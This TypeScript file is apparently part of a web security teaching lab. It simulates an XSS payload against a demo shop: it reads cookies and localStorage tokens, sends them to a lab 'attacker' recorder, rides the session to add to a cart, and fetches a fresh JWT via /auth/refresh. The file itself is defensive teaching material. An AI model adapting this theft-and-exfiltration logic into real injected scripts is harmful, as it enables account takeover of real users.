import * as responses from "../../api/responses";
import { tokenStorageKey } from "../../api/tokenStore";
import { type AttackerSite, clearRecordings, exfiltrate, readRecordings } from "../attacker";
import { JwtActor, type LabApi, LabStepFailed, SessionActor } from "../http";
import { type LabContext, type LabRow, runRow, statusText } from "../lab";
import { firstProductId, quantityIn } from "./common";

// The XSS lab runs, in this page, what a script injected by an XSS bug would run: it has the
// page's powers, no more and no less. It reads what JavaScript can read, sends it to the
// attacker's recorder, and uses the API from the page, where the browser attaches the cookies.

/** What an injected script finds in the page without asking any server. */
export interface Loot {
  documentCookie: string;
  storedToken: string | null;
  refreshedToken?: string;
}

export function lookAround(): Loot {
  return {
    documentCookie: document.cookie,
    storedToken: globalThis.localStorage?.getItem(tokenStorageKey) ?? null,
  };
}

/** Sends the loot out and reads back what arrived: the recorder's copy, parsed. */
async function sendOut(api: LabApi, site: AttackerSite, loot: Loot): Promise<Loot | null> {
  if (!(await clearRecordings(api, site))) {
    throw new LabStepFailed(
      `the attacker site at ${site.sameSite} did not answer (npm start -w apps/attacker)`,
    );
  }
  await exfiltrate(api, site, JSON.stringify(loot));
  const arrived = (await readRecordings(api, site))?.find((entry) => entry.via === "post");
  if (!arrived) return null;
  try {
    return JSON.parse(arrived.data) as Loot;
  } catch {
    return null;
  }
}

/** "document.cookie = "…"" as the verdicts quote it. */
function cookieLine(loot: Loot): string {
  return `document.cookie = ${JSON.stringify(loot.documentCookie)}`;
}

function sessionRow(context: LabContext): Promise<LabRow> {
  const row = { key: "session", label: "Session (HttpOnly cookie)", mode: "session" as const };
  return runRow(context, row, async (api) => {
    const alice = await SessionActor.login(api, "alice", "wonderland42");
    const arrived = await sendOut(api, context.attacker, lookAround());
    // No stealing needed: the script asks the API from the page, and the browser adds the cookie.
    const me = await api.send("GET", "/auth/me", {
      actor: "script",
      note: "the browser adds the cookie",
    });
    const csrfToken = responses.sessionLogin(me.body) ? me.body.csrfToken : "";
    const productId = await firstProductId(alice);
    const before = quantityIn((await alice.call("GET", "/cart")).body, productId);
    const add = await api.send("POST", "/cart/items", {
      actor: "script",
      body: { productId, quantity: 1 },
      headers: { "x-csrf-token": csrfToken },
      note: "with the CSRF token /auth/me just gave it",
    });
    const line = `/cart/items/${encodeURIComponent(productId)}`;
    await alice.call("PATCH", line, {
      body: { quantity: before },
      note: "the lab puts the line back",
    });
    await alice.logout();
    const sidLeft = arrived?.documentCookie.includes("sid=") ?? false;
    const theft = sidLeft
      ? `The sid left with the script (${cookieLine(arrived as Loot)})`
      : `HttpOnly stopped the theft: no sid reached the attacker (${cookieLine(arrived ?? lookAround())})`;
    const use = `but not the use: the script read /auth/me (${statusText(me.request)}), took its CSRF token and added to the cart (${statusText(add.request)})`;
    return { outcome: sidLeft || add.ok ? "mixed" : "refused", verdict: `${theft}, ${use}.` };
  });
}

/** JWT with the token where the setting keeps it: memory (refresh is the way in) or localStorage. */
function jwtRow(context: LabContext, place: "memory" | "localStorage"): Promise<LabRow> {
  const row = {
    key: `jwt-${place}`,
    label: place === "memory" ? "JWT, token in memory" : "JWT, token in localStorage",
    mode: "jwt" as const,
  };
  return runRow(context, row, async (api) => {
    // The page's own copy (the app's setting) is set aside so the row shows only its own case.
    const saved = globalThis.localStorage?.getItem(tokenStorageKey) ?? null;
    try {
      const alice = await JwtActor.login(api, "alice", "wonderland42");
      if (place === "localStorage") localStorage.setItem(tokenStorageKey, alice.token);
      else localStorage.removeItem(tokenStorageKey);
      const loot = lookAround();
      let refresh: string | undefined;
      if (!loot.storedToken) {
        // Nothing in storage: the refresh cookie goes with any request from this page.
        const answer = await api.send("POST", "/auth/refresh", {
          actor: "script",
          note: "the browser adds the refresh cookie",
        });
        refresh = statusText(answer.request);
        if (responses.jwtLogin(answer.body)) loot.refreshedToken = answer.body.accessToken;
      }
      const arrived = await sendOut(api, context.attacker, loot);
      const stolen = arrived?.storedToken ?? arrived?.refreshedToken;
      const used = stolen
        ? await alice.call("GET", "/cart", {
            token: stolen,
            actor: "attacker",
            note: "the token as the recorder got it",
          })
        : undefined;
      await alice.logout();
      const how =
        place === "localStorage"
          ? "The script read the token from localStorage"
          : `localStorage held no token, so the script asked /auth/refresh for a fresh one (${refresh})`;
      if (!stolen) {
        return { outcome: "refused", verdict: `${how}, but no token reached the attacker.` };
      }
      return {
        outcome: "accepted",
        verdict: `${how}; it reached the attacker and worked from there (${statusText(used?.request)}) until its exp.`,
      };
    } finally {
      if (saved === null) localStorage.removeItem(tokenStorageKey);
      else localStorage.setItem(tokenStorageKey, saved);
    }
  });
}

/** What an injected script can do: in session mode, and in JWT mode with each token setting. */
export async function runXss(context: LabContext): Promise<LabRow[]> {
  return [
    await sessionRow(context),
    await jwtRow(context, "memory"),
    await jwtRow(context, "localStorage"),
  ];
}
